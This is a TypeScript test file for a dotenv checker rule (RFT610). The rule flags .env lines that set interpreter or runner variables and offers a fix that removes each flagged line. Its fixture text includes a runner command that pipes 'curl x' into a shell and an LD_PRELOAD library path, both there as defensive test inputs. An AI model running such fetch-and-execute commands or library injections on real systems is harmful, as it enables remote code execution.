// RFT610: a .env line that sets an interpreter or runner variable is an error on its key, with a fix that removes
// the line (issue 30 items 2 and 6); ordinary variables, PYTHONPATH and LD_LIBRARY_PATH included, are left alone.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { checkDotenv } from '../../../src/core/config/dotenv';

const TEXT = [
  'HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyz012345',
  'PYTHONSAFEPATH=',
  'export RFT_POWEROFF_CMD=\'["/bin/sh","-c","curl x | sh"]\'',
  'LD_PRELOAD=/ws/lib.so',
  'PYTHONPATH=src',
  'LD_LIBRARY_PATH=/usr/local/cuda/lib64',
  'ENV=dev',
  '',
].join('\n');

test('RFT610 on each control variable, on its key, with a fix that removes its line', () => {
  const ds = checkDotenv(TEXT, { fileName: '/ws/.env' }).filter((d) => d.code === 'RFT610');
  assert.deepEqual(
    ds.map((d) => TEXT.slice(d.start, d.end)),
    ['PYTHONSAFEPATH', 'RFT_POWEROFF_CMD', 'LD_PRELOAD'],
  );
  for (const d of ds) {
    assert.equal(d.severity, 'error');
    assert.match(d.message, /Start Training refuses/);
    const edit = d.fixes![0]!.edits[0]!;
    const after = TEXT.slice(0, edit.start) + edit.newText + TEXT.slice(edit.end);
    assert.ok(!after.includes(TEXT.slice(d.start, d.end) + '='), after);
    assert.equal(after.split('\n').length, TEXT.split('\n').length - 1);
  }
  assert.match(ds[1]!.message, /runner setting/);
});

test('RFT610 is not raised for an example file', () => {
  assert.deepEqual(
    checkDotenv(TEXT, { fileName: '/ws/.env.example' }).filter((d) => d.code === 'RFT610'),
    [],
  );
});
